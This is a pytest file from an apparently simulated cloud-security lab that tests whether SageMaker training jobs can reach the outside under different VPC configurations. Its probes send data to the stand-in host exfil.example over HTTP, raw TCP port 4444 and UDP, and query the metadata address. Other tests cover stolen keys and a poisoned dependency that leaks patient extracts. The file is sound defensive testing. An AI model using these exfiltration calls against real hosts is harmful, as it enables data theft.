"""Sockets of a job's script follow the job's network: real processes, real sockets, the standard libraries on them."""

from __future__ import annotations

import errno
import json
import socket
from collections.abc import Callable
from typing import Any

import boto3
import pytest

from lab_env import Lab, scenario
from lab_env.dataplane.sink import KEPT_BYTES
from tests.training.made import archive, run

PROBES = {
    "urllib": "urllib.request.urlopen('https://exfil.example/a?b=c', data=b'one\\ntwo').status",
    "requests": "requests.post('https://exfil.example/r', data=b'x' * 100_000).text",
    "chunks": "requests.put('https://exfil.example/chunks', data=iter([b'ab', b'cd'])).status_code",
    "http.client": "via_http_client()",
    "asyncio": "asyncio.run(via_asyncio())",
    "plain http": "requests.get('http://internet.example/q').status_code",
    "no http": "socket.create_connection(('exfil.example', 4444), timeout=3).sendall(b'any\\nbytes')",
    "by address": "socket.create_connection(('192.0.2.1', 443), timeout=3).getpeername()[0]",
    "connect": "socket.socket().connect(('exfil.example', 443))",
    "connect_ex": "socket.socket().connect_ex(('203.0.113.66', 443))",
    "another's name": "under_name('exfil.example', 's3.us-east-1.amazonaws.com')",
    "getaddrinfo": "socket.getaddrinfo('exfil.example', 'https', type=socket.SOCK_STREAM)[0][4]",
    "getaddrinfo IPv6": "socket.getaddrinfo('exfil.example', 443, socket.AF_INET6)",
    "gethostbyname": "socket.gethostbyname('exfil.example')",
    "gethostbyname_ex": "socket.gethostbyname_ex('exfil.example')",
    "gethostbyaddr": "socket.gethostbyaddr('203.0.113.66')",
    "getnameinfo": "socket.getnameinfo(('203.0.113.66', 9), socket.NI_NUMERICSERV)",
    "unknown name": "socket.create_connection(('nowhere.example', 443))",
    "unmodelled name": "socket.getaddrinfo('s3.dualstack.us-east-1.amazonaws.com', 443)",
    "own names": "[socket.gethostbyname(n) for n in ('localhost', 'algo-1')]",
    "loopback": "over_loopback()",
    "udp connect": "udp().connect(('203.0.113.66', 53))",
    "udp sendto": "udp().sendto(b'x', ('exfil.example', 53))",
    "udp sendmsg": "udp().sendmsg([b'x'], [], 0, ('203.0.113.66', 53))",
    "IPv6": "socket.socket(socket.AF_INET6).connect(('2001:db8::1', 443))",
    "metadata": "urllib.request.urlopen('http://169.254.169.254/latest/meta-data').read()",
    "s3 by urllib": "len(urllib.request.urlopen(signed('get_object')).read())",
    "s3 by http": "requests.head(signed('head_object').replace('https', 'http')).headers['Content-Length']",
    "s3, unsigned": "requests.get('https://s3.us-east-1.amazonaws.com/').status_code > 0",
    "sts, unsigned": "requests.get('https://sts.us-east-1.amazonaws.com/').status_code > 0",
    "one host for another": "requests.get('https://s3.us-east-1.amazonaws.com/', headers=for_sts).status_code",
}
SCRIPT = """
import asyncio, http.client, json, socket, ssl, sys, time, urllib.request
import boto3, requests

for_sts = {"Host": "sts.us-east-1.amazonaws.com"}

def signed(operation):
    named = {"Bucket": "meridian-phi-training", "Key": "train/2025-01.csv"}
    return boto3.client("s3").generate_presigned_url(operation, Params=named)

def via_http_client():
    connection = http.client.HTTPSConnection("exfil.example")
    answers = []
    for path in ("/first", "/second"):
        connection.request("POST", path, b"body")
        answers.append(connection.getresponse().read().decode())
    return answers

async def via_asyncio():
    reader, writer = await asyncio.open_connection("exfil.example", 443, ssl=True)
    writer.write(b"POST /aio HTTP/1.1\\r\\nContent-Length: 3\\r\\nConnection: close\\r\\n\\r\\nabc")
    line = await reader.readline()
    writer.close()
    return line.decode().strip()

def under_name(host, name):
    plain = socket.create_connection((host, 443))
    ssl.create_default_context().wrap_socket(plain, server_hostname=name)

def over_loopback():
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as client:
        server.accept()[0].sendall(b"here")
        return client.recv(4).decode()

def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

began, said = time.monotonic(), {}
for name, probe in json.loads(sys.argv[-1]).items():
    try:
        said[name] = eval(probe)
    except Exception as error:
        while isinstance(getattr(error, "reason", None), OSError):
            error = error.reason
        said[name] = f"{type(error).__name__}: {error}"
print(json.dumps({"seconds": time.monotonic() - began, "said": said}))
"""
if not hasattr(socket.socket, "sendmsg"):
    del PROBES["udp sendmsg"]


def numbered(kind: str, number: int, words: str) -> str:
    """An error of the operating system as Python writes it; the numbers differ between systems."""
    return f"{kind}: [Errno {number}] {words}"


LOST, LATE = numbered("TimeoutError", errno.ETIMEDOUT, "Connection timed out"), "TimeoutError: timed out"
REFUSED = numbered("ConnectionRefusedError", errno.ECONNREFUSED, "Connection refused")
UNREACHABLE = numbered("OSError", errno.ENETUNREACH, "Network is unreachable")
NO_NAME = numbered("gaierror", socket.EAI_NONAME, "Name or service not known")
NO_DNS = numbered("gaierror", socket.EAI_AGAIN, "Temporary failure in name resolution")
NO_DATA = getattr(socket, "EAI_NODATA", socket.EAI_NONAME)
# requests says where and how at length; the class is what matters.
TIMES_OUT, FAILS = "ConnectTimeout", "ConnectionError"

# What is the same wherever a job stands.
ALWAYS = {
    "own names": ["127.0.0.1", "127.0.0.1"],
    "loopback": "here",
    "gethostbyaddr": "herror: [Errno 1] Unknown host",
    "getnameinfo": ["203.0.113.66", "9"],
    "udp connect": UNREACHABLE,
    "udp sendto": UNREACHABLE,
    "udp sendmsg": UNREACHABLE,
    "IPv6": UNREACHABLE,
}
RESOLVES = {
    "getaddrinfo": ["203.0.113.66", 443],
    "getaddrinfo IPv6": numbered("gaierror", NO_DATA, "No address associated with hostname"),
    "gethostbyname": "203.0.113.66",
    "gethostbyname_ex": ["exfil.example", [], ["203.0.113.66"]],
    "unknown name": NO_NAME,
    "unmodelled name": "OSError: s3.dualstack.us-east-1.amazonaws.com: dual-stack endpoint names.",
}
OPEN = {
    "urllib": 200,
    "requests": "OK\n",
    "chunks": 200,
    "http.client": ["OK\n", "OK\n"],
    "asyncio": "HTTP/1.1 200 OK",
    "plain http": 200,
    "no http": None,
    "by address": "127.0.0.1",
    "connect": None,
    "connect_ex": 0,
    "another's name": "SSLCertVerificationError",
    "s3 by urllib": 6376,
    "s3 by http": "6376",
    "s3, unsigned": True,
    "sts, unsigned": True,
    "one host for another": 421,
}
CLOSED = {
    "urllib": LOST,
    "requests": TIMES_OUT,
    "chunks": TIMES_OUT,
    "http.client": LOST,
    "asyncio": LOST,
    "plain http": TIMES_OUT,
    "no http": LATE,
    "by address": LATE,
    "connect": LOST,
    "connect_ex": errno.ETIMEDOUT,
    "another's name": LOST,
    "sts, unsigned": TIMES_OUT,
}
S3_ALONE = {
    name: OPEN[name] for name in ("s3 by urllib", "s3 by http", "s3, unsigned", "one host for another")
}
NO_RESOLVER = dict.fromkeys(RESOLVES, NO_DNS)
STS_TOO = {"sts, unsigned": True}
ISOLATED = {
    **dict.fromkeys(CLOSED, NO_DNS),
    **{name: FAILS for name, error in CLOSED.items() if error in (TIMES_OUT, FAILS)},
    "s3 by urllib": "NoCredentialsError",
    "s3 by http": "NoCredentialsError",
    "s3, unsigned": FAILS,
    "one host for another": FAILS,
    "by address": UNREACHABLE,
    "connect_ex": errno.ENETUNREACH,
    "metadata": UNREACHABLE,
}


def no_change(lab: Lab) -> None:
    """The private VPC as chapter 01 leaves it."""


def endpoint(lab: Lab) -> None:
    scenario.build_endpoint(boto3.client)


def interface_endpoint(lab: Lab) -> None:
    """The gateway endpoint for S3, and an interface endpoint with private DNS for STS."""
    endpoint(lab)
    boto3.client("ec2").create_vpc_endpoint(
        VpcEndpointType="Interface",
        VpcId=lab.names.vpc,
        ServiceName="com.amazonaws.us-east-1.sts",
        SubnetIds=[lab.names.subnet_b],
        SecurityGroupIds=[lab.names.training_security_group],
        PrivateDnsEnabled=True,
    )


def nat_in_public_subnet(lab: Lab) -> None:
    """An internet gateway, a public subnet with a NAT gateway in it, and a default route of subnet A to that."""
    ec2, vpc = boto3.client("ec2"), lab.names.vpc
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc)
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.100.0/24")["Subnet"]["SubnetId"]
    table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
    ec2.associate_route_table(RouteTableId=table, SubnetId=subnet)
    ec2.create_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway)
    allocation = ec2.allocate_address(Domain="vpc")["AllocationId"]
    nat = ec2.create_nat_gateway(SubnetId=subnet, AllocationId=allocation)["NatGateway"]["NatGatewayId"]
    private = lab.names.private_route_table
    ec2.create_route(RouteTableId=private, DestinationCidrBlock="0.0.0.0/0", NatGatewayId=nat)


def job_of(lab: Lab, name: str, **changes: Any) -> dict[str, Any]:
    """The scenario's job; a change to None takes the member away."""
    job = {**lab.job, "TrainingJobName": name, **changes}
    return {member: value for member, value in job.items() if value is not None}


def probe(lab: Lab, **changes: Any) -> tuple[dict[str, Any], float]:
    """What each probe says from a job, and how many seconds all of them took."""
    code = archive(SCRIPT)
    boto3.client("s3").put_object(Bucket=scenario.TRAINING_BUCKET, Key=scenario.CODE_KEY, Body=code)
    parameters = {**lab.job["HyperParameters"], "probes": json.dumps(PROBES)}
    del parameters["epochs"]
    boto3.client("sagemaker").create_training_job(
        **job_of(lab, "prober", HyperParameters=parameters, **changes)
    )
    lab._training.wait("prober", 60)
    *_, last = lab.log("prober")
    told = json.loads(last)
    return told["said"], told["seconds"]


def shortened(said: Any, expected: Any) -> Any:
    """Errors whose expected form is a class alone."""
    classes = (TIMES_OUT, FAILS, "SSLCertVerificationError", "NoCredentialsError")
    return said.partition(":")[0] if expected in classes else said


STATES = [
    pytest.param(
        nat_in_public_subnet,
        {},
        {**ALWAYS, **RESOLVES, **OPEN, "metadata": REFUSED},
        id="NAT gateway in a public subnet",
    ),
    pytest.param(
        endpoint,
        {},
        {**ALWAYS, **RESOLVES, **CLOSED, **S3_ALONE, "metadata": REFUSED},
        id="gateway endpoint only",
    ),
    pytest.param(
        interface_endpoint,
        {},
        {**ALWAYS, **RESOLVES, **CLOSED, **S3_ALONE, **STS_TOO, "metadata": REFUSED},
        id="gateway endpoint, and an interface endpoint for STS",
    ),
    pytest.param(
        no_change,
        {"VpcConfig": None},
        {**ALWAYS, **RESOLVES, **OPEN, "metadata": LOST},
        id="no VpcConfig",
    ),
    pytest.param(
        nat_in_public_subnet,
        {"EnableNetworkIsolation": True},
        {**ALWAYS, **NO_RESOLVER, **ISOLATED},
        id="network isolation, with a NAT gateway",
    ),
]


@pytest.mark.parametrize(("build", "changes", "expected"), STATES)
def test_what_a_script_sees(
    lab: Lab, build: Callable[[Lab], None], changes: dict[str, Any], expected: dict[str, Any]
) -> None:
    build(lab)
    said, seconds = probe(lab, **changes)
    assert {name: shortened(answer, expected.get(name)) for name, answer in said.items()} == {
        name: expected[name] for name in PROBES
    }
    assert seconds < 10, "a lost connection fails at once"


def test_the_sink_keeps_what_outside_hosts_received(lab: Lab) -> None:
    nat_in_public_subnet(lab)
    probe(lab)
    sender = "training job prober"
    assert all(item.sender.startswith(sender) for item in lab.sink)
    assert [(item.method, item.url, item.size, item.beginning[:9]) for item in lab.sink] == [
        ("POST", "https://exfil.example/a?b=c", 7, b"one\ntwo"),
        ("POST", "https://exfil.example/r", 100_000, b"x" * 9),
        ("PUT", "https://exfil.example/chunks", 4, b"abcd"),
        ("POST", "https://exfil.example/first", 4, b"body"),
        ("POST", "https://exfil.example/second", 4, b"body"),
        ("POST", "https://exfil.example/aio", 3, b"abc"),
        ("GET", "http://internet.example/q", 0, b""),
        ("", "tcp://exfil.example:4444", 9, b"any\nbytes"),
    ]
    assert len(lab.sink[1].beginning) == KEPT_BYTES


def test_each_connection_to_the_outside_is_one_attempt(lab: Lab) -> None:
    script = (
        "import socket, urllib.request\n"
        "for name in ('exfil.example', 'nowhere.example'):\n"
        "    try: urllib.request.urlopen(f'https://{name}/', data=b'x')\n"
        "    except OSError as error: print(error)\n"
    )
    scenario.build_endpoint(boto3.client)
    run(lab, "curious", script)
    mine = [a for a in lab.ledger if a.place.startswith("training job curious") and a.service != "s3"]
    assert [(a.service, a.operation, a.target, a.error, a.status) for a in mine] == [
        ("internet", "connect", "exfil.example", "TimeoutError", None),
        ("internet", "resolve", "nowhere.example", "gaierror", None),
    ]
    connect, resolve = (a.trace for a in mine)
    assert connect.blockers[0].resource == lab.names.private_route_table
    assert connect.blockers[0].code == "NO_ROUTE_TO_DESTINATION"
    assert not resolve.dns.addresses


def test_under_isolation_stolen_keys_reach_nothing_and_wait_for_nothing(lab: Lab) -> None:
    nat_in_public_subnet(lab)
    script = (
        "import boto3, time\n"
        "time.sleep = lambda seconds: print('waits to try again')\n"
        "s3 = boto3.client('s3', 'us-east-1', aws_access_key_id='AKIASTOLEN', aws_secret_access_key='x')\n"
        "try: s3.list_buckets()\n"
        "except Exception as error: print(error)\n"
    )
    described = run(lab, "thief", script, EnableNetworkIsolation=True)
    assert lab.log("thief") == [
        'Could not connect to the endpoint URL: "https://s3.us-east-1.amazonaws.com/"'
    ]
    assert described["TrainingJobStatus"] == "Completed"


POISONED = [
    pytest.param(nat_in_public_subnet, {}, True, id="NAT gateway in a public subnet"),
    pytest.param(endpoint, {}, False, id="gateway endpoint only"),
    pytest.param(no_change, {"VpcConfig": None}, True, id="no VpcConfig"),
    pytest.param(nat_in_public_subnet, {"EnableNetworkIsolation": True}, False, id="network isolation"),
]


@pytest.mark.parametrize(("build", "changes", "stolen"), POISONED)
def test_a_poisoned_dependency_steals_what_the_network_lets_out_and_nobody_notices(
    lab: Lab, build: Callable[[Lab], None], changes: dict[str, Any], stolen: bool
) -> None:
    build(lab)
    s3, sagemaker = boto3.client("s3"), boto3.client("sagemaker")
    sagemaker.create_training_job(**job_of(lab, "clean", **changes))
    lab._training.wait("clean", 60)
    assert not lab.sink
    code = scenario.training_code(poisoned=True)
    s3.put_object(Bucket=scenario.TRAINING_BUCKET, Key=scenario.CODE_KEY, Body=code)
    sagemaker.create_training_job(**job_of(lab, "poisoned", **changes))
    assert lab._training.wait("poisoned", 60).record.status == "Completed"
    assert lab.log("poisoned") == lab.log("clean")
    taken = {item.path: item.beginning for item in lab.sink}
    extracts = {f"/collect/{key.rpartition('/')[2]}": body for key, body in scenario.patient_extracts()}
    assert taken == (extracts if stolen else {})
